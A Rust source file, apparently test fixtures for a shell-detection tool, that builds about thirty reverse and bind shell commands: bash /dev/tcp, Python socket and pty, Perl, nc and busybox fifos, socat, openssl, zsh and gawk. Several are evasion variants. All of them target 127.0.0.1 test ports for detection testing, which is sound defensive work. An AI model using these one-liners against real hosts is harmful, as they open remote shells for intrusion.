//! Ways to get a shell.

use vedette_tests::{
    http::free_port,
    listener::Wire,
    remote_shell::RemoteShell,
    tools::{Names, Place, Tools},
};

/// Whom the finding may be about.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Subject {
    /// The shell that answers.
    Shell,
    /// The shell that answers or the interpreter that runs it: either has the remote end at its
    /// standard streams.
    ShellOrInterpreter,
}

/// One way to get a shell.
pub struct Attack {
    pub wire: Wire,
    pub subject: Subject,
    /// Until the first command comes it is a client that reads from its server, as an honest one
    /// may: only what it does with that command makes it a shell. Or that command waits in the
    /// connection before there is a shell, which may carry it out as it starts.
    pub born_of_a_command: bool,
    /// Programs beyond those that every machine has.
    pub needs: &'static [&'static str],
    /// The script for these tools that reaches back to the port.
    pub script: fn(&Tools, u16) -> String,
}

impl Attack {
    const fn new(needs: &'static [&'static str], script: fn(&Tools, u16) -> String) -> Self {
        Self {
            wire: Wire::Clear,
            subject: Subject::Shell,
            born_of_a_command: false,
            needs,
            script,
        }
    }

    const fn by_an_interpreter(mut self) -> Self {
        self.subject = Subject::ShellOrInterpreter;
        self
    }

    const fn born_of_a_command(mut self) -> Self {
        self.born_of_a_command = true;
        self
    }

    const fn over_tls(mut self) -> Self {
        self.wire = Wire::Tls;
        self
    }

    pub fn start(&self, place: Place, names: Names) -> RemoteShell {
        RemoteShell::start(place, names, self.wire, self.script)
    }
}

pub const BASH_REDIRECTED: Attack = Attack::new(&["bash"], |tools, port| {
    let bash = tools.get("bash");
    format!("{bash} -c '{bash} -i >& /dev/tcp/127.0.0.1/{port} 0>&1'")
});

pub const BASH_READ_LOOP: Attack = Attack::new(&["bash"], |tools, port| {
    let bash = tools.get("bash");
    format!(
        r#"{bash} -c 'exec 5<>/dev/tcp/127.0.0.1/{port}; while read -r line <&5; do eval "$line" >&5 2>&5; done'"#
    )
})
.born_of_a_command();

pub const PYTHON: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.create_connection(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

pub const PYTHON_TERMINAL: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,pty,os
s=socket.create_connection(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
pty.spawn("{sh}")'"#
    )
})
.by_an_interpreter();

pub const PYTHON_PIPES: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,threading
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)'"#
    )
});

/// By Multipath TCP, where the kernel has it.
pub const PYTHON_MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
try: s=socket.socket(2,1,262)
except OSError: s=socket.socket()
s.connect(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

/// With MSG_FASTOPEN: no call connects.
pub const PYTHON_FAST_OPEN: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.socket()
s.sendto(b"here\n",0x20000000,("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter();

/// After more refused connections than a table of all the machine's would hold.
pub const PYTHON_AFTER_A_STORM: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,subprocess,os
s=socket.create_connection(("127.0.0.1",{port}))
n=socket.socket();n.bind(("127.0.0.1",0));nowhere=n.getsockname()
for i in range(10000):
    with socket.socket() as r: r.connect_ex(nowhere)
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
subprocess.call(["{sh}","-i"])'"#
    )
})
.by_an_interpreter()
.born_of_a_command();

pub const PERL: Attack = Attack::new(&["perl"], |tools, port| {
    let (perl, sh) = (tools.get("perl"), tools.get("sh"));
    format!(
        r#"{perl} -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp")||6);
if(connect(S,sockaddr_in({port},inet_aton("127.0.0.1")))){{
open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("{sh} -i");}}'"#
    )
})
.by_an_interpreter();

pub const FIFO_NC: Attack = Attack::new(&["nc"], |tools, port| {
    let [mkfifo, cat, sh, nc] = ["mkfifo", "cat", "sh", "nc"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {cat} {fifo} | {sh} -i 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
});

pub const FIFO_BUSYBOX: Attack = Attack::new(&["busybox"], |tools, port| {
    let busybox = tools.get("busybox");
    let fifo = tools.scratch("f");
    format!(
        "{busybox} mkfifo {fifo}; {busybox} nc 127.0.0.1 {port} < {fifo} | {busybox} sh > {fifo} 2>&1"
    )
});

pub const BUSYBOX_EXEC: Attack = Attack::new(&["busybox"], |tools, port| {
    let (busybox, sh) = (tools.get("busybox"), tools.get("sh"));
    format!("{busybox} nc 127.0.0.1 {port} -e {sh}")
});

pub const SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh) = (tools.get("socat"), tools.get("sh"));
    format!("{socat} TCP:127.0.0.1:{port} EXEC:{sh}")
});

pub const SOCAT_TERMINAL: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, bash) = (tools.get("socat"), tools.get("bash"));
    format!("{socat} EXEC:'{bash} -i',pty,stderr,setsid,sigint,sane TCP:127.0.0.1:{port}")
});

pub const OPENSSL: Attack = Attack::new(&["openssl"], |tools, port| {
    let [mkfifo, sh, openssl] = ["mkfifo", "sh", "openssl"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {sh} -i < {fifo} 2>&1 | {openssl} s_client -quiet -connect 127.0.0.1:{port} > {fifo}")
})
.over_tls();

pub const COMPILED: Attack = Attack::new(&["cc"], |tools, port| {
    let (reverse, sh) = (tools.program("reverse"), tools.get("sh"));
    format!("{reverse} {port} {sh}")
});

pub const COMPILED_PIPES: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} pipes")
});

pub const COMPILED_THREADS: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} threads")
});

pub const COMPILED_SOCKETPAIR: Attack = Attack::new(&["cc"], |tools, port| {
    let (relay, sh) = (tools.program("relay"), tools.get("sh"));
    format!("{relay} {port} {sh} socketpair")
});

pub const TWO_CONNECTIONS: Attack = Attack::new(&["nc"], |tools, port| {
    let [sleep, nc, sh] = ["sleep", "nc", "sh"].map(|name| tools.get(name));
    format!("{sleep} 60 | {nc} 127.0.0.1 {port} | {sh} | {nc} 127.0.0.1 {port}")
});

pub const ZSH: Attack = Attack::new(&["zsh"], |tools, port| {
    let zsh = tools.get("zsh");
    format!(
        "{zsh} -fc 'zmodload zsh/net/tcp; ztcp 127.0.0.1 {port}; {zsh} -f <&$REPLY >&$REPLY 2>&$REPLY'"
    )
});

pub const GAWK: Attack = Attack::new(&["gawk"], |tools, port| {
    let (gawk, sh) = (tools.get("gawk"), tools.get("sh"));
    format!(
        r#"{gawk} 'BEGIN{{s="/inet/tcp/0/127.0.0.1/{port}"
while((s|&getline c)>0){{print c|&"{sh}";"{sh}"|&getline l;print l|&s}}}}'"#
    )
})
.born_of_a_command();

/// Nothing in the descriptors of what runs leads to the connection.
pub const PYTHON_EACH_COMMAND: Attack = Attack::new(&["python3"], |tools, port| {
    let python = tools.get("python3");
    format!(
        r#"{python} -c 'import socket,subprocess
s=socket.create_connection(("127.0.0.1",{port}))
while d:=s.recv(4096):
    p=subprocess.Popen("cd /tmp; "+d.decode().strip()+" 2>&1; sleep 5",shell=True,stdin=subprocess.DEVNULL,stdout=subprocess.PIPE)
    s.sendall(p.stdout.readline())'"#
    )
})
.by_an_interpreter()
.born_of_a_command();

/// An interpreter's own options, and a way to standard input that nobody writes.
pub const ODD_ARGUMENTS: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, bash) = (tools.get("python3"), tools.get("bash"));
    format!(
        r#"{python} -W ignore -c 'import socket,subprocess,threading
s=socket.create_connection(("127.0.0.1",{port}))
p=subprocess.Popen(["{bash}","-norc","/dev/fd/../fd/0"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)'"#
    )
});

/// What the shell reads is a file to it.
pub const SUBSTITUTED: Attack = Attack::new(&["nc"], |tools, port| {
    let [bash, sleep, nc] = ["bash", "sleep", "nc"].map(|name| tools.get(name));
    format!("{bash} -c '{bash} <({sleep} 60 | {nc} 127.0.0.1 {port}) | {nc} 127.0.0.1 {port}'")
});

/// The same, as a fifo.
pub const FIFO_AS_SCRIPT: Attack = Attack::new(&["nc"], |tools, port| {
    let [mkfifo, bash, nc] = ["mkfifo", "bash", "nc"].map(|name| tools.get(name));
    let fifo = tools.scratch("f");
    format!("{mkfifo} {fifo}; {bash} {fifo} 2>&1 | {nc} 127.0.0.1 {port} > {fifo}")
});

/// A protocol that the kernel does not count as TCP.
pub const MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
    let (python, sh) = (tools.get("python3"), tools.get("sh"));
    format!(
        r#"{python} -c 'import socket,os
try: s=socket.socket(socket.AF_INET,socket.SOCK_STREAM,262)
except OSError: s=socket.socket()
s.connect(("127.0.0.1",{port}))
[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
os.execv("{sh}",["{sh}"])'"#
    )
})
.by_an_interpreter();

/// The remote end's connection to a port on which a shell is waited with.
fn call(tools: &Tools, bound: u16, port: u16) -> String {
    let socat = tools.get("socat");
    format!("{socat} TCP:127.0.0.1:{bound},retry=100,interval=0.1 TCP:127.0.0.1:{port}")
}

pub const BOUND_SOCAT: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork EXEC:{sh} &\n{call}")
});

pub const BOUND_SOCAT_ONCE: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, bash, bound) = (tools.get("socat"), tools.get("bash"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr EXEC:'{bash} -norc',pipes &\n{call}")
});

pub const BOUND_SOCAT_COMMAND: Attack = Attack::new(&["socat"], |tools, port| {
    let (socat, sh, bound) = (tools.get("socat"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!("{socat} TCP-LISTEN:{bound},reuseaddr,fork SYSTEM:'exec {sh}' &\n{call}")
});

pub const BOUND_PYTHON: Attack = Attack::new(&["python3", "socat"], |tools, port| {
    let (python, sh, bound) = (tools.get("python3"), tools.get("sh"), free_port());
    let call = call(tools, bound, port);
    format!(
        r#"{python} -c 'import socket,subprocess,threading
l=socket.create_server(("127.0.0.1",{bound}))
s,_=l.accept()
p=subprocess.Popen(["{sh}"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.PIPE,bufsize=0)
def there():
    while d:=s.recv(4096): p.stdin.write(d)
    p.stdin.close()
threading.Thread(target=there,daemon=True).start()
while d:=p.stdout.read(4096): s.sendall(d)' &
{call}"#
    )
});
